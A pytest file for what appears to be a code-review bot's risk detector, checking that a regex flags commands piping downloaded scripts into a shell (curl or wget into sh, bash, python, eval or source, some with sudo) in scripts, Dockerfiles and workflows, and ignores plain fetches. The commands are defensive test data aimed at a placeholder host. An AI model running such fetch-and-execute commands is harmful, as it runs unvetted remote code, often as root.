import pytest
import re2

from bot.condense.risk.shell import REMOTE_CODE
from tests.condense.risk.telling import told


@pytest.mark.parametrize(
    "line",
    [
        "curl -fsSL https://x.example/install.sh | sh",
        "curl -fsSL https://x.example/install.sh | sudo -E bash",
        "wget -qO- https://x.example/i | sudo -H -u root /bin/bash -s --",
        'bash -c "$(curl -fsSL https://x.example/install.sh)"',
        "curl 'https://x.example/i?a=1&b=2' | sh",
        "sh <(curl -s https://x.example)",
        "eval `wget -qO- https://x.example`",
        "source <(curl -s https://x.example)",
        "curl https://x.example | python3 -",
        "curl https://x.example | env A=1 bash",
    ],
)
def test_code_from_the_network_is_told(line: str) -> None:
    assert re2.search(REMOTE_CODE, line)
    assert "code/remote-code" in told("install.sh", "x", f"x\n{line}")
    assert "docker/remote-code" in told("Dockerfile", "FROM a:1", f"FROM a:1\nRUN {line}")
    assert "gha/remote-code" in told(".github/workflows/a.yml", "x:", f"x:\n- run: {line}")


@pytest.mark.parametrize(
    "line",
    [
        "curl -o out.json https://x.example",
        "curl https://x.example | jq .",
        "curl https://x.example/sh | tee sh.txt",
        "bash -c 'echo curl'",
        "curl -s https://x.example | python3 -m json.tool",
    ],
)
def test_what_is_only_fetched_is_not(line: str) -> None:
    assert not re2.search(REMOTE_CODE, line)
